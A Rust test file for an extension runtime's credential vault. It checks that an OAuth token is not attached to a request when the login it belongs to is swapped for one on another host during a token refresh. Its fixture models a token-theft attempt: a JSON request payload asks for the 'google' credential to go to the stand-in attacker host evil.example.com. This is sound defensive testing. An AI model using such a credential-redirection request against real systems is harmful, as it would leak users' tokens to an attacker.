//! A login that is replaced by another one of its name while a token is renewed.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use ext_manifest::Manifest;
use ext_net::AddressPolicy;
use ext_perm::Engine;
use ext_registry::{Call, Deadline, Progress, Registry, Services, execute_json_operation};
use ext_services::{
    credentials::{Credential, CredentialVault, Owner, TokenSource},
    http::{HttpClient, HttpFuture, HttpRequest, HttpResponse, PauseFuture},
    testing::MemoryVault,
};
use ext_wire::{
    ErrorBody,
    body::BlobStyle,
    ops::credentials::{OAuth2Tokens, Secret},
};

use crate::common::{LIBRARY, Tokens};

/// Counts requests, and answers them all.
struct Client(AddressPolicy, Mutex<usize>);

impl HttpClient for Client {
    fn addresses(&self) -> &AddressPolicy {
        &self.0
    }

    fn send(&self, _: HttpRequest) -> HttpFuture<'_> {
        *self.1.lock().unwrap() += 1;
        let headers = http::HeaderMap::new();
        Box::pin(async { Ok(HttpResponse { status: 200, headers, body: "".into() }) })
    }

    fn pause(&self, _: Duration) -> PauseFuture<'_> {
        Box::pin(std::future::pending())
    }
}

fn owner() -> Owner {
    Owner { extension: "odd".into(), library: LIBRARY }
}

fn login(host: &str) -> Credential {
    let tokens = OAuth2Tokens {
        access_token: "old".into(),
        expires_at: Some(0),
        refresh_token: Some("r".into()),
        token_url: "https://evil.example.com/token".into(),
        client_id: "app".into(),
        client_secret: None,
        scopes: Vec::new(),
    };
    Credential::new(vec![host.to_owned()], Secret::OAuth2(tokens))
}

/// Asks for the server that the login `google` is for, while it becomes one for another host.
fn ask(becomes: &'static str) -> (Result<(), ErrorBody>, usize) {
    ext_ops::link();
    let manifest = br#"{"id":"odd","name":"Odd","version":"1.0.0","wasm_file":"o.wasm",
        "permissions":{"methods":["http.request"],"libraries":["*"],
        "allowed_domains":["https://evil.example.com"]}}"#;
    let engine = Engine::for_extension(&Manifest::parse(manifest).unwrap());
    let vault = Arc::new(MemoryVault::default());
    vault.put(&owner(), "google", &login("https://evil.example.com")).unwrap();
    let before = Box::new(move |vault: &MemoryVault| {
        vault.put(&owner(), "google", &login(becomes)).unwrap();
    });
    let client = Arc::new(Client(AddressPolicy::public_only(), Mutex::default()));
    let services = Services::default()
        .with::<dyn HttpClient>(client.clone())
        .with::<dyn TokenSource>(Arc::new(Tokens { before, ..Tokens::of(&vault) }))
        .with::<dyn CredentialVault>(vault);
    let call = Call {
        method: "query:http.request.v1",
        library: Some(LIBRARY),
        payload: br#"{"url":"https://evil.example.com/","auth":"google"}"#.to_vec().into(),
        blobs: BlobStyle::Base64,
        deadline: Deadline::NONE,
        progress: Progress::NONE,
    };
    let registry = Registry::collect().unwrap();
    let reply = pollster::block_on(execute_json_operation(&registry, &services, &engine, call));
    let sent = *client.1.lock().unwrap();
    (reply.map(drop).map_err(ext_registry::OpError::into_body), sent)
}

#[test]
fn a_token_goes_only_where_the_login_that_it_belongs_to_may() {
    let (refused, sent) = ask("https://gmail.googleapis.com");
    assert_eq!((refused.unwrap_err().code.name(), sent), ("E_CRED_NOTFOUND", 0));
    let (fine, sent) = ask("https://evil.example.com");
    assert_eq!((fine, sent), (Ok(()), 1));
}
